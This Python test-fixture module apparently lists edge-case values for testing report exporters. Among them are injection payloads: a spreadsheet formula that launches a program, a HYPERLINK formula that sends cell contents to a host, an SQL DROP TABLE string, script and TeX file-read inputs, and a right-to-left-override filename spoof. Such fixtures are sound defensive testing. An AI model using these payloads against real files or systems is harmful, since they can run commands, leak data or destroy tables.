"""Values that break exporters, each with a name that says what is nasty about it."""

from __future__ import annotations

from reportkit.sample.canonical import document

TEXTS: tuple[tuple[str, str], ...] = (
    ("empty", ""),
    ("one space", " "),
    ("spaces around", "  two before, two after  "),
    ("comma", "first, second; third"),
    ("quotes", 'She said "yes", he didn\'t, and \'\'all\'\' ""agreed""'),
    ("lone quote", '"'),
    ("newline", "first line\nsecond line"),
    ("carriage returns", "one\rtwo\r\nthree\n\n"),
    ("tab", "left\tright"),
    ("equals sign", "=1+1"),
    ("equals sign calling a function", '=HYPERLINK("http://example.com/?"&A1,"Click, please")'),
    ("equals sign calling a program", "=cmd|' /C calc'!A0"),
    ("plus sign", "+1+1"),
    ("plus sign of a telephone number", "+44 20 7946 0018"),
    ("minus sign", "-1+1"),
    ("minus sign of a negative number", "-273.15"),
    ("at sign", "@SUM(A1:A9)"),
    ("at sign of a mention", "@ann please look"),
    ("tab before a formula", "\t=1+1"),
    ("carriage return before a formula", "\r=1+1"),
    ("newline before a formula", "\n=1+1"),
    ("space before a formula", " =1+1"),
    ("full-width formula", "＝1+1 ＋1 －1 ＠SUM(A1)"),
    ("quoted formula", '"=1+1"'),
    ("formula after a semicolon", "x;=1+1"),
    ("emoji", "😀 👩🏽‍🚀 👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇭"),
    ("Hebrew", "שלום עולם, מה שלומך?"),
    ("Arabic with digits", "مرحبا بالعالم ١٢٣"),
    ("right to left override", "invoice\u202efdp.exe"),
    ("mixed directions", "price: 42 ₪ (מחיר) ok"),
    ("Chinese", "你好,世界。実験と결과"),
    ("Chinese beyond the basic plane", "𠮷野家 𡨸喃"),
    ("Thai", "สวัสดีชาวโลก"),
    ("Devanagari", "नमस्ते दुनिया"),
    ("accents, composed and not", "caf\u00e9 cafe\u0301"),
    ("stacked accents", "Z̵̢̛͎a̶̡͔l̷̨̙g̴̢̀o̸͙͝"),
    ("zero width characters", "zero\u200bwidth\u200djoiner\u00a0nbsp\u00adsoft"),
    ("byte order mark", "\ufeffmarked"),
    ("line and paragraph separators", "line\u2028paragraph\u2029next\u0085end"),
    ("control characters", "".join(map(chr, [*range(0x01, 0x20), 0x7F]))),
    ("later control characters", "".join(map(chr, range(0x80, 0xA0)))),
    ("terminal colours", "\x1b[31mred\x1b[0m\x07"),
    ("noncharacters", "\ufffe and \uffff and \U0010ffff"),
    ("replacement character", "caf\ufffd"),
    ("backslashes", "C:\\temp\\new \\N \\. \\x41 \\u0041 \\\\"),
    ("end of a COPY", "\\."),
    ("looks like NULL", "NULL"),
    ("looks like a marker for NULL", "\\N"),
    ("looks like true", "TRUE"),
    ("looks like not a number", "NaN"),
    ("looks like a number, leading zeros", "007"),
    ("looks like a number, exponent", "1E5"),
    ("looks like a number, long", "1234567890123456789012345"),
    ("looks like a date", "1/2"),
    ("looks like a gene", "MARCH1"),
    ("looks like JSON", '{"a": [1, null, "b"]}'),
    ("looks like an escape of XLSX", "_x0041_ _x000D_ _x005F_"),
    ("HTML", "<script>alert('x')</script> <b>bold</b> &amp; &lt;"),
    ("Markdown", "# not a heading\n| a | b |\n**bold** `code` [link](http://example.com)"),
    ("Typst", '#panic("x") $x^2$ *bold* _it_ @ref <label> // gone'),
    ("TeX", "\\input{secret} 100% $5_000 {x}~y"),
    ("template", "{{ 7 * 7 }} ${HOME} %s {0} %(name)s"),
    ("SQL", "Robert'); DROP TABLE events;--"),
    ("40,000 characters", "All work and no play makes Jack a dull boy. " * 909 + "Fin."),
    ("40,000 characters, one word", "x" * 40_000),
    ("40,000 characters, of four bytes", "😀" * 40_000),
    ("40,000 characters, many lines", "=1,\n" * 10_000),
    ("32,767 characters, a cell is full", "y" * 32_767),
    ("32,768 characters, one too many", "z" * 32_768),
)

SHORT_TEXTS = tuple((what, text) for what, text in TEXTS if len(text) < 1_000)

EMAILS: tuple[tuple[str, str], ...] = (
    ("quoted local part", '"comma, and quote"@example.com'),
    ("apostrophe and plus", "o'brien+test@example.com"),
    ("formula", "=1+1@example.com"),
    ("upper case", "ANN.EXAMPLE@EXAMPLE.COM"),
    ("beyond ASCII", "用户@example.com"),
    ("not an address", "n/a"),
)

ADDRESSES: tuple[tuple[str, str], ...] = (
    ("IPv4", "192.0.2.255"),
    ("IPv6", "2001:db8:85a3::8a2e:370:7334"),
    ("IPv4 in IPv6", "::ffff:192.0.2.1"),
    ("IPv6 with a zone", "fe80::1%eth0"),
    ("not an address", "unknown"),
)

NUMBERS: tuple[tuple[str, float], ...] = (
    ("zero", 0.0),
    ("negative", -1.5),
    ("not exact in binary", 0.1 + 0.2),
    ("seventeen digits", 1.0000000000000002),
    ("beyond 2^53", 9007199254740994.0),
    ("large", 1.7976931348623157e308),
    ("large, negative", -1.7976931348623157e308),
    ("small", 2.2250738585072014e-308),
    ("smallest", 5e-324),
    ("exponent", 6.02214076e23),
)

AMOUNTS: tuple[tuple[str, str], ...] = (
    ("zero", "0.000000000000000000"),
    ("negative", "-49.990000000000000000"),
    ("eighteen decimals", "0.123456789012345678"),
    ("least", "0.000000000000000001"),
    ("least, negative", "-0.000000000000000001"),
    ("thirty-eight digits", "12345678901234567890.123456789012345678"),
    ("most", "99999999999999999999.999999999999999999"),
    ("most, negative", "-99999999999999999999.999999999999999999"),
    ("one third", "0.333333333333333333"),
)

SEQUENCES: tuple[tuple[str, int], ...] = (
    ("zero", 0),
    ("negative", -1),
    ("2^31", 2**31),
    ("2^53", 2**53),
    ("2^53 + 1", 2**53 + 1),
    ("-(2^53 + 1)", -(2**53) - 1),
    ("most", 2**63 - 1),
    ("least", -(2**63)),
)

DAYS: tuple[tuple[str, str], ...] = (
    ("first", "0001-01-01"),
    ("year below 1000", "0999-12-31"),
    ("before the Gregorian calendar", "1582-10-04"),
    ("day before 1900", "1899-12-31"),
    ("first of 1900", "1900-01-01"),
    ("before the leap day that spreadsheets invent", "1900-02-28"),
    ("after it", "1900-03-01"),
    ("epoch", "1970-01-01"),
    ("leap day", "2024-02-29"),
    ("last", "9999-12-31"),
)

INSTANTS: tuple[tuple[str, str], ...] = (
    ("year below 1000", "0987-06-05T04:03:02.000001Z"),
    ("before 1900", "1899-12-31T23:59:59.999999Z"),
    ("before the epoch", "1969-12-31T23:59:59.999999Z"),
    ("epoch", "1970-01-01T00:00:00.000000Z"),
    ("first 02:30 of the night clocks went back in Zurich", "2025-10-26T00:30:00.000000Z"),
    ("second 02:30 of that night", "2025-10-26T01:30:00.000000Z"),
    ("next year in half of the world", "2025-12-31T23:59:59.999999Z"),
)

DOCUMENTS: tuple[tuple[str, str], ...] = (
    ("null", "null"),
    ("true", "true"),
    ("number", "-12.50"),
    ("text", '"=1+1"'),
    ("empty object", "{}"),
    ("empty array", "[]"),
    ("empty key", '{"": ""}'),
    ("awkward keys", document({"a b": 1, "=1+1": 2, 'say "hi"': 3, "ключ": 4, "😀": 5, "line\nbreak": 6})),
    ("integer beyond 2^53", '{"n": 9007199254740993}'),
    ("integer beyond 2^64", '{"n": -123456789012345678901234567890}'),
    ("eighteen decimals", '{"n": 0.100000000000000005}'),
    ("trailing zeros", '{"n": 1.500}'),
    ("nested", document({"a": [{"b": [[], {}, [None, {"c": {"d": [1, [2, [3]]]}}]]}]})),
    ("deeply nested", "[" * 60 + "]" * 60),
    ("mixed array", '[1, "1", 1.0, true, null, {"a": null}, [""]]'),
    ("wide", document({f"key_{number:03d}": number for number in range(300)})),
)
